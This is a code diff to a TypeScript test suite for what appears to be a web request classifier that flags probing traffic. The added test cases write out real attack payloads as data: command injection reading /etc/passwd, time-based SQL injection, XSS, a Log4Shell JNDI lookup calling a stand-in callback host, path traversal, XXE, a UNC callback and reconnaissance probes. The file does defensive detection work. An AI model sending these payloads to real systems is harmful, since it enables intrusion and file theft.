@@ -24,10 +24,10 @@ const typeOf = (text: string): string =>
 
 describe("nothing is sent that hides", () => {
   test.each<[string, readonly DisguisedRequest[], number]>([
-    ["a statement in an encoding, a comment or another alphabet", ENCODED_ORDERS, 55],
-    ["a command", DISGUISED_COMMANDS, 80],
+    ["a statement in an encoding, a comment or another alphabet", ENCODED_ORDERS, 80],
+    ["a command", DISGUISED_COMMANDS, 88],
     ["another method", METHOD_OVERRIDES, 40],
-    ["an order in a header or cookie", HEADER_ORDERS, 35],
+    ["an order in a header or cookie", HEADER_ORDERS, 43],
     ["an order in a body", BODY_ORDERS, 85],
   ])("%s", (_, requests, least) => {
     expect(requests.length).toBeGreaterThanOrEqual(least);
@@ -78,5 +78,28 @@ describe("what reads is recognised in the same disguises:", () => {
       ["POST", "/api/search", "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a><!-- x -->&x;</a>"],
     ],
     ["a search with a selection", ["GET", "/odata?$filter=a&q={{7*7}}"]],
+    ["a command between separators", ["GET", "/a?h=;id;"]],
+    ["a command that a comment follows", ["POST", "/a", "h=%22;cat+/etc/passwd+%23%23", FORM]],
+    ["a command in backquotes", ["GET", "/a?h=8.8.8.8`id`"]],
+    ["a condition that closes its quotes", ["GET", "/a?id=1' AND (SELECT 1 FROM (SELECT(SLEEP(5)))x) AND 'a'='a"]],
+    ["a call inside a script of the page", ["GET", "/a?x=%27-alert(document.domain)-%27"]],
+    ["the same, which a comment ends", ["GET", "/a?x=';alert(1);//"]],
+    ["a lookup of constants", ["GET", "/a?x=${jndi:ldap://${:-5}${:-7}.${hostName}.p1.calls.example.net/a}"]],
+    ["a path in a header", ["GET", "/", "", { Accept: "../../../../../etc/passwd{{" }]],
+    ["a path in a cookie", ["GET", "/", "", { Cookie: "lang=en; theme=../../../../etc/passwd" }]],
+    ["the release of a system", ["GET", "/a?fileName=/etc/f5-release"]],
+    [
+      "a call by its identifier",
+      [
+        "POST",
+        "/a.asmx",
+        "<a>\\\\p1.calls.example.net\\x</a>",
+        { SOAPAction: '"http://tempuri.org/GetHashForSingleFile"' },
+      ],
+    ],
+    ["a call of a plug-in that reads", ["POST", "/wp-admin/admin-ajax.php", "action=acme_get_items", FORM]],
+    ["a documented question", ["POST", "/minio/bootstrap/v1/verify"]],
+    ["a file of a development server", ["GET", "/@fs/etc/passwd?import&raw??"]],
+    ["a map", ["GET", "/geoserver/ows?service=WFS&request=GetCapabilities"]],
   ])("%s", (_, request) => expect(harmOf(request)).toBe("prove"));
 });
